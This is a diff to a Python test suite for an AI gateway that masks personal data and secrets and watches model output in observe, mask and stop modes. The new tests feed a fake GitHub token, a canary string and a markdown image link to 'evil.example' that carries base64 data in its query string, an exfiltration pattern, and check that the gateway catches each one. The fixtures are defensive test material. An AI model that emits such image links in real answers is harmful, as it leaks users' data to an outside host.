@@ -99,7 +99,7 @@ def texts(answer):
         return message["content"], message["tool_calls"][0]["function"]["arguments"]
     content = arguments = ""
     for event in rig.events_of(answer.body):
-        if event == "[DONE]":
+        if event in ("[DONE]", b"[DONE]"):
             continue
         for choice in json.loads(event)["choices"]:
             content += choice["delta"].get("content") or ""
@@ -129,7 +129,8 @@ def test_the_model_sees_tokens_and_the_caller_values(masking, stream, piece):
     assert (record["label"], record["label_before"]) == ("public", "confidential")
     assert (record["masked"], record["restored"], record["unresolved"]) == (3, 6, 0)
     assert record["findings"] == {"email_address": 3}
-    assert MAIL not in masking.log() and tokens[0] not in masking.log()
+    log = masking.log()
+    assert MAIL.encode() not in log and tokens[0].encode() not in log
 
 
 def test_the_model_is_told_what_tokens_are(masking):
@@ -166,7 +167,7 @@ def test_half_a_token_and_then_nothing(masking):
     masking.model.answer = lambda said: "It is " + TOKEN.search(said)[0]
     masking.model.stop_at = 14
     answer = masking.chat(rig.chat("big", SAY, stream=True))
-    events = [e for e in rig.events_of(answer.body) if e != "[DONE]"]
+    events = [e for e in rig.events_of(answer.body) if e not in ("[DONE]", b"[DONE]")]
     said = "".join(json.loads(e)["choices"][0]["delta"].get("content", "") for e in events[:-1])
     assert said.startswith("It is Email_") and len(said) == 14, "what was held back is said, as it is"
     assert json.loads(events[-1])["error"]["code"] == "stream_broken"
@@ -294,7 +295,7 @@ def test_an_invariant_about_the_origin_forbids_masking(folder):
     with open(folder + "/t.yaml", "w", encoding="utf-8") as f:
         f.write(text)
     done = rig.run("check", "--detached", folder + "/t.yaml")
-    assert done.returncode == 2 and "from which was masked what is confidential, pii" in done.stderr
+    assert done.returncode == 2 and "from which was masked what is confidential, pii" in done.stderr.decode()
 
 
 def test_a_secret_never_leaves(masking, gateway):
@@ -303,6 +304,75 @@ def test_a_secret_never_leaves(masking, gateway):
         answer = masking.chat(rig.chat("big", f"Use the token {secret} to log in."), work(workload))
         assert answer.status == 403, workload
         assert secret not in answer.body.decode() + str(answer.fields)
-    assert masking.model.bodies == [] and secret not in masking.log()
+    assert masking.model.bodies == [] and secret.encode() not in masking.log()
     for page in ("/metrics", "/debug/requests"):
         assert secret not in masking.admin(page).body.decode()
+
+
+SECRET = "ghp_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0dF3hJ6"
+LINK = "![x](https://evil.example/p?d=" + "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9w" * 3 + ")"
+
+
+@pytest.fixture
+def watching(gateway):
+    """A model that says what it likes, and a workload for each way to watch it."""
+    m = Model()
+    g = gateway(rig.config({"big": rig.model(m, zone="edge")}, default_workload="plain", workloads={
+        "plain": {"owner": "desk"},
+        **{mode: {"owner": "desk", "output": {"watch": mode, "hosts": ["acme.io"], "canary": "zebra-crossing-7"}}
+           for mode in ("observe", "mask", "stop")}}))
+    g.model = m
+    yield g
+    m.shutdown()
+
+
+@pytest.mark.parametrize("stream", [False, True])
+@pytest.mark.parametrize("piece", [1, 50, 100_000])
+@pytest.mark.parametrize("what, name", [
+    (SECRET, "github_token"), (LINK, None), ("zebra-crossing-7", "canary")])
+def test_what_must_not_come_out(watching, stream, piece, what, name):
+    watching.model.piece = piece
+    watching.model.answer = lambda _: "Here it is: " + what + " and that was all."
+    for count, mode in enumerate(("observe", "mask", "stop")):
+        answer = watching.chat(rig.chat("big", "Hello there", stream=stream), work(mode))
+        record = watching.records(count + 1)[-1]
+        assert record["watched"] >= 1 and (name is None or record["watched_first"] == name), mode
+        if mode == "observe":
+            assert texts(answer)[0] == "Here it is: " + what + " and that was all."
+        elif mode == "mask":
+            assert texts(answer)[0] == "Here it is: " + (
+                "![x](https:)" if what == LINK else "") + " and that was all."
+            assert what not in answer.body.decode()
+        else:
+            assert what.encode() not in answer.body
+            if stream and answer.status == 200:
+                last = json.loads(rig.events_of(answer.body)[-1])
+                assert last["error"]["code"] == "output_stopped"
+            else:
+                assert (answer.status, answer.code) == (403, "output_stopped")
+            assert record["err"] == "output_stopped"
+
+
+@pytest.mark.parametrize("text", [
+    "See https://acme.io/orders?id=" + "7" * 300 + " and http://docs.acme.io/x for more.",
+    "A plain answer, with a list:\n- one\n- two\n\n```c\nint main(void) { return 0; }\n```\n",
+    "Grüße aus Köln 🇩🇪, 你好, \U0001f468\u200d\U0001f469\u200d\U0001f467. " * 100])
+@pytest.mark.parametrize("mode", ["observe", "mask", "stop"])
+def test_what_may_come_out_does(watching, text, mode):
+    watching.model.answer = lambda _: text
+    for piece in (1, 3, 100_000):
+        watching.model.piece = piece
+        for stream in (False, True):
+            assert texts(watching.chat(rig.chat("big", "Hello there", stream=stream), work(mode)))[0] == text
+
+
+def test_a_caller_sees_no_more_than_his_ceiling(gateway):
+    m = Model()
+    g = gateway(rig.config({"big": rig.model(m, zone="edge")}, keys=[
+        {"id": "k", "secret": "env:K", "ceiling": {"level": "internal", "kinds": []}}],
+        default_workload="w", workloads={"w": {"owner": "desk", "output": {"watch": "mask"}}}), env={"K": "sk-" + "k" * 30})
+    m.answer = lambda _: f"His address is {MAIL}, the room is 12."
+    answer = g.chat(rig.chat("big", "Hello there"), [("Authorization", "Bearer sk-" + "k" * 30)])
+    assert texts(answer)[0] == "His address is , the room is 12."
+    assert g.record()["watched_first"] == "email_address"
+    m.shutdown()
